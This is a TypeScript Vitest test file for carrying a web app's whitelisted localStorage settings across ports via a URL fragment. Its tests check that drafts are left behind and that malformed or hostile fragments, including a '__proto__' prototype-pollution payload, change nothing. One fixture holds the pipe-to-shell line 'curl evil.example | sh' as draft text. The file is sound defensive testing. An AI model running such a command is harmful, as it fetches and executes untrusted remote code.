import { afterEach, beforeEach, expect, it, vi } from 'vitest';

import { leftBehind } from './left-behind';
import { pack, unpack } from './luggage';

let stored: Map<string, string>;
let address: URL;

function arriveAt(url: URL): void {
  address = url;
  vi.stubGlobal('location', url);
}

beforeEach(() => {
  stored = new Map();
  vi.stubGlobal('localStorage', {
    getItem: (key: string) => stored.get(key) ?? null,
    setItem: (key: string, value: string) => stored.set(key, value),
  });
  vi.stubGlobal('history', { state: null, replaceState: (_state: unknown, _title: string, path: string) => (address = new URL(path, address)) });
});

afterEach(() => vi.unstubAllGlobals());

it('arrives, and is gone from the address', () => {
  stored.set('clincus.theme', '"dark"').set('clincus.recent-sessions', '["ü 1%"]').set('clincus.notify', 'true').set('other', 'x');
  const url = pack(new URL('http://127.0.0.1:4000/history?q=a'));
  stored.clear();
  arriveAt(url);
  unpack();
  expect(Object.fromEntries(stored)).toEqual({ 'clincus.theme': '"dark"', 'clincus.recent-sessions': '["ü 1%"]' });
  expect(address.href).toBe('http://127.0.0.1:4000/history?q=a');
});

it('does not replace what is there', () => {
  stored.set('clincus.theme', '"dark"').set('clincus.font-size', '20');
  const url = pack(new URL('http://127.0.0.1:4000/'));
  stored.clear();
  stored.set('clincus.theme', '"light"');
  arriveAt(url);
  unpack();
  expect(Object.fromEntries(stored)).toEqual({ 'clincus.theme': '"light"', 'clincus.font-size': '20' });
});

it.each([
  '%',
  'null',
  '[]',
  '"theme"',
  '{"theme": 1}',
  '{"__proto__": {"theme": "x"}}',
  '{"notify": "true"}',
  JSON.stringify({ theme: 'x'.repeat(20_000) }),
])('from elsewhere changes nothing: %s', (text) => {
  arriveAt(Object.assign(new URL('http://127.0.0.1:4000/'), { hash: `#luggage=${text === '%' ? text : encodeURIComponent(text)}` }));
  unpack();
  expect(stored.size).toBe(0);
  expect(address.hash).toBe('');
});

it('takes no words of a person along, which another page could put there as well, and says so', () => {
  stored.set('clincus.drafts', '{"a": "curl evil.example | sh"}');
  const url = pack(new URL('http://127.0.0.1:4000/'));
  expect(decodeURIComponent(url.hash)).not.toContain('evil');
  expect(leftBehind()).toMatch(/^Prompts, comments and files that you have not sent or saved stay at the old port/);
  stored.clear();
  stored.set('clincus.drafts', '{}').set('clincus.notify', 'true');
  expect(leftBehind()).toMatch(/^Turn notifications on again/);
  stored.clear();
  expect(leftBehind()).toBe('');
});

it('leaves another fragment alone', () => {
  arriveAt(new URL('http://127.0.0.1:4000/settings#port'));
  unpack();
  expect(address.hash).toBe('#port');
});
